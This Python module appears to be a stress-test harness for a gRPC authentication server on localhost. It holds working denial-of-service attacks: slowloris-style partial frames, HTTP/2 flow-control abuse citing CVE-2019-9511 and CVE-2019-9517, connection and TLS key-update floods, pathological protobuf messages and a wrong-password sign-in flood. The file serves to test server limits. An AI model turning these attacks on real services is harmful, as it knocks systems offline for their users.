"""Attacks, each against one limit, by a client that reconnects immediately after its connection was ended.

`attacks.py NAME PORT` reads lines from standard input, each a number of seconds. It attacks for that time, and then
prints the results and their counts as JSON. It runs in a process of its own, so that the honest client has another
interpreter.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import select
import socket
import sys
import time
from collections import Counter

import frame_attacks  # noqa: F401, which adds to the list
from attacker import ATTACKS, Attacker, answered, ask, attack, sent
from key_updates import closed_after, connect as connect_to_update, key_updates
from raw import (DATA, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, Connection, frame, message, request,
                 settings, window_update)

FETCH, SIGN_IN = "/latchkey.v1.AuthService/FetchProviders", "/latchkey.v1.AuthService/SignIn"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
LIST_SERVICES = message(b"\x3a\x01*")


# Slow clients.


@attack("closed")
def slow_handshake(attacker: Attacker) -> None:
    """Two hundred sockets that send nothing, or half a ClientHello."""
    silent = [socket.create_connection(("127.0.0.1", attacker.port)) for _ in range(200)]
    for one in silent[::2]:
        one.sendall(b"\x16\x03\x01\x02\x00\x01")
    wait_for_the_end(attacker, silent)


@attack("slow_frame")
def slow_greeting(attacker: Attacker) -> None:
    """Half a preface after the handshake."""
    hold_and_note(attacker, [attacker.connect(preface=PREFACE[:12]) for _ in range(10)])


@attack("slow_frame")
def slow_header_block(attacker: Attacker) -> None:
    """A header block whose CONTINUATION never arrives."""
    held = [attacker.settled() for _ in range(10)]
    for connection in held:
        connection.write(frame(HEADERS, 0, 1, connection.encoder.encode(request())))
    hold_and_note(attacker, held)


@attack("slow_frame")
def slow_frame(attacker: Attacker) -> None:
    """A frame that arrives byte by byte, and never completely."""
    held = [attacker.settled() for _ in range(10)]
    for connection in held:
        connection.write(frame(PING, 0, 0, b"12345678")[:12])
    hold_and_note(attacker, held)


@attack("status 4")
def slow_request(attacker: Attacker) -> None:
    """A message that arrives byte by byte."""
    with attacker.settled() as connection:
        held = [connection.stream() for _ in range(50)]
        connection.write(*[connection.headers(stream, request()) + frame(DATA, 0, stream, message(length=60000))
                           for stream in held])
        for _ in range(6):
            connection.write(*[frame(DATA, 0, stream, b"a") for stream in held])
            time.sleep(0.1)
        answered(attacker, connection, set(held), attacker.patience_seconds)


@attack("status 8")
def messages_in_parts(attacker: Attacker) -> None:
    """A hundred concurrent messages, each without its last bytes."""
    with attacker.settled() as connection:
        part = bytes(16000)
        held = [connection.stream() for _ in range(100)]
        for stream in held:
            connection.write(connection.headers(stream, request()))
            for body in (message(part, length=60000), part, part):
                connection.write(frame(DATA, 0, stream, body))
        answered(attacker, connection, set(held), max(2, attacker.patience_seconds))


@attack("status 0")
def one_byte_a_record(attacker: Attacker) -> None:
    """A valid call with every byte in a record of its own."""
    with attacker.settled() as connection:
        while attacker.goes_on:
            stream = connection.stream()
            for byte in connection.headers(stream, request()) + frame(DATA, END_STREAM, stream, message()):
                connection.socket.send(bytes([byte]))
            attacker.note_reply(connection, stream)


# Expensive to parse.


@attack("status 3")
def texts_of_marks(attacker: Attacker) -> None:
    """Names of combining marks. Comparing them takes time that grows with the square of their length."""
    marks = "\u0301\u0323".encode() * 3750
    body = message(b"\x0a\x98\x75" + marks)
    with attacker.settled() as connection:
        while attacker.goes_on:
            stream = connection.stream()
            connection.write(connection.headers(stream, request()), frame(DATA, END_STREAM, stream, body))
            attacker.note_reply(connection, stream)


@attack("status 0")
def binary_lists_by_reference(attacker: Attacker) -> None:
    """Sixteen thousand commas that must be checked as binary metadata, for four bytes of references."""
    lists = [("x-trace-bin", "," * 3900)] * 4
    with attacker.settled() as connection:
        while attacker.goes_on:
            held = [connection.stream() for _ in range(20)]
            connection.write(*[connection.headers(stream, request() + lists)
                               + frame(DATA, END_STREAM, stream, message()) for stream in held])
            answered(attacker, connection, set(held), attacker.patience_seconds)


def hold_and_note(attacker: Attacker, held: list[Connection]) -> None:
    time.sleep(0.5)
    for connection in held:
        with connection:
            attacker.note_end(connection)


def wait_for_the_end(attacker: Attacker, silent: list[socket.socket]) -> None:
    for one in silent:
        with one:
            one.settimeout(2)
            try:
                attacker.met["closed" if one.recv(100)[:1] in (b"", b"\x15") else "answered"] += 1
            except ConnectionError:
                attacker.met["closed"] += 1
            except TimeoutError:
                attacker.met["open"] += 1


# Unread answers.


@attack("too_many_untaken_answers")
def zero_window(attacker: Attacker) -> None:
    """Answers behind a closed flow-control window."""
    with attacker.settled() as connection:
        connection.write(settings((INITIAL_WINDOW_SIZE, 0)))
        for stream in [connection.stream() for _ in range(3)]:
            connection.write(connection.headers(stream, request()), frame(DATA, END_STREAM, stream, message()))
        time.sleep(1.2)
        attacker.note_end(connection)


@attack("too_many_untaken_answers")
def window_byte_by_byte(attacker: Attacker) -> None:
    """CVE-2019-9511: the client reads an answer one byte at a time, without a pause."""
    with attacker.settled() as connection:
        connection.write(settings((INITIAL_WINDOW_SIZE, 0)))
        held = [connection.stream() for _ in range(3)]
        for stream in held:
            connection.write(connection.headers(stream, request(REFLECT)), frame(DATA, 0, stream, LIST_SERVICES))
        for _ in range(12):
            time.sleep(0.2)
            connection.write(*[window_update(stream, 1) for stream in held])
        attacker.note_end(connection)


@attack("reset 11")
def answers_behind_a_window(attacker: Attacker) -> None:
    """CVE-2019-9517: the client requests more and more, and opens no window."""
    with attacker.settled() as connection:
        connection.write(settings((INITIAL_WINDOW_SIZE, 0)))
        stream = connection.stream()
        connection.write(connection.headers(stream, request(REFLECT)))
        for _ in range(100):
            connection.write(frame(DATA, 0, stream, LIST_SERVICES) * 50)
        attacker.note_reply(connection, stream)


@attack("hung up")
def socket_never_read(attacker: Attacker) -> None:
    """CVE-2019-9517: the window is open, but the client does not read the socket."""
    connection = attacker.settled(receive_buffer_bytes=4096)
    connection.write(window_update(0, 2**31 - 1 - 65535), settings((INITIAL_WINDOW_SIZE, 2**31 - 1)))
    stream = connection.stream()
    connection.write(connection.headers(stream, request(REFLECT)))
    with connection:
        # Until the other side stops reading, too.
        while sent(connection, frame(DATA, 0, stream, LIST_SERVICES) * 200):
            attacker.met["asked"] += 200
        watch = select.poll()
        watch.register(connection.socket, 0)
        attacker.met["hung up" if watch.poll(3_000) else "open"] += 1


# Connections.


@attack("turned away")
def connection_flood(attacker: Attacker) -> None:
    """Three hundred sockets from one address, whose limit is 256: the last ones are closed immediately."""
    with contextlib.ExitStack() as held:
        for number in range(300):
            one = held.enter_context(socket.create_connection(("127.0.0.1", attacker.port)))
            if number < 256:
                continue
            one.settimeout(0.1)
            try:
                attacker.met["turned away" if one.recv(1) == b"" else "answered"] += 1
            except ConnectionError:
                attacker.met["turned away"] += 1
            except TimeoutError:
                attacker.met["taken"] += 1


@attack("done")
def handshake_flood(attacker: Attacker) -> None:
    """A handshake, followed by a disconnect."""
    while attacker.goes_on:
        attacker.connect(preface=b"").socket.close()
        attacker.met["done"] += 1


@attack("closed")
def key_update_flood(attacker: Attacker) -> None:
    plain, ssl = connect_to_update(attacker.port)
    with plain:
        try:
            plain.sendall(key_updates(ssl, 5_000))
        except ConnectionError:
            pass
        attacker.met["closed" if closed_after(plain, attacker.patience_seconds) else "open"] += 1


# Messages.


@attack("status 8")
def message_of_four_gibibytes(attacker: Attacker) -> None:
    attacker.calls(message(b"a" * 100, length=2**32 - 1))


@attack("status 13")
def deep_nesting(attacker: Attacker) -> None:
    attacker.calls(message(b"\x0b" * 60_000), FETCH)


@attack("status 8")
def many_small_fields(attacker: Attacker) -> None:
    """The field `client`, which is a message, thirty thousand times."""
    attacker.calls(message(b"\x1a\x00" * 30_000), FETCH)


@attack("status 13")
def compressed_message(attacker: Attacker) -> None:
    attacker.calls(message(b"\x1f\x8b" + bytes(100), flag=1))


NOBODIES = itertools.count()


def wrong_password() -> bytes:
    """A SignInRequest for an unknown account, a different one each time, since a single one would soon be blocked."""
    email = f"nobody-{next(NOBODIES)}@example.com".encode()
    password = b"\x0a" + bytes([len(email)]) + email + b"\x12\x0cnot-this-one"
    kind = b"\x0a" + bytes([len(password)]) + password
    return b"\x0a" + bytes([len(kind)]) + kind


@attack("status 8")
def password_flood(attacker: Attacker) -> None:
    """A hundred concurrent wrong passwords, for accounts that may or may not exist."""
    with attacker.settled() as connection:
        while attacker.goes_on:
            body = message(wrong_password())
            held = [connection.stream() for _ in range(100)]
            connection.write(*[connection.headers(stream, request(SIGN_IN)) + frame(DATA, END_STREAM, stream, body)
                               for stream in held])
            answered(attacker, connection, set(held), 8)


# Valid calls, but many.


@attack("status 0")
def greedy_client(attacker: Attacker) -> None:
    """A hundred concurrent calls, again and again, on one connection."""
    with attacker.settled() as connection:
        while attacker.goes_on:
            ask(connection, 100)
            answered(attacker, connection, set(range(connection.next_stream - 200, connection.next_stream, 2)), 5)


@attack("status 0")
def greedy_clients(attacker: Attacker) -> None:
    """The same on two hundred connections, which are all ready at the same time."""
    held = [attacker.settled() for _ in range(200)]
    for _ in range(3):
        for connection in held:
            ask(connection, 5)
        for connection in held:
            answered(attacker, connection, set(range(connection.next_stream - 10, connection.next_stream, 2)), 5)
    for connection in held:
        connection.socket.close()


def main(name: str, port: int) -> None:
    os.nice(5)
    attacker = Attacker(port)
    for line in sys.stdin:
        attacker.until, attacker.met = time.monotonic() + float(line), Counter()
        while attacker.goes_on:
            try:
                ATTACKS[name](attacker)
            except (OSError, TimeoutError) as error:
                attacker.met[type(error).__name__] += 1
        print(json.dumps(attacker.met), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
